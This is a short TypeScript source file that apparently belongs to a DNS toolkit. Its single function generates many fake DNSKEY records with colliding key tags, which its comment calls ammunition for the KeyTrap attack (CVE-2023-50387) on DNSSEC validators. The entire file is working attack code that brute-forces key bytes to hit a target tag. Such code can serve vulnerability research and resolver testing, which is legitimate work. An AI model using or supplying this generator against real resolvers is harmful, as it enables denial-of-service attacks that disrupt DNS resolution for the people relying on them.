import {randomBytes} from 'node:crypto';
import {dnskeyRData, keyTag} from '../dns/dnssec.js';
import type {Name} from '../dns/name.js';
import type {ResourceRecord} from '../dns/record.js';

/**
 * DNSKEYs that share one key tag, the ammunition of KeyTrap (CVE-2023-50387): the tag is a 16-bit checksum of the
 * RDATA, so random key bytes with the last two chosen to hit the target make as many colliding keys as wanted.
 * They are not real keys; a validator only learns that by trying each one.
 */
export function keysWithTag(origin: Name, target: number, algorithm: number, keyLength: number, count: number, flags = 256): ResourceRecord[] {
	const keys: ResourceRecord[] = [];
	while (keys.length < count) {
		const publicKey = randomBytes(keyLength);
		for (let last = 0; last < 65_536; last++) {
			publicKey.writeUInt16BE(last, keyLength - 2);
			if (keyTag(dnskeyRData({flags, algorithm, publicKey})) === target) {
				keys.push({name: origin, type: 'DNSKEY', class: 'IN', ttl: 3600, data: {kind: 'dnskey', flags, protocol: 3, algorithm, publicKey: publicKey.toString('base64')}});
				break;
			}
		}
	}
	return keys;
}
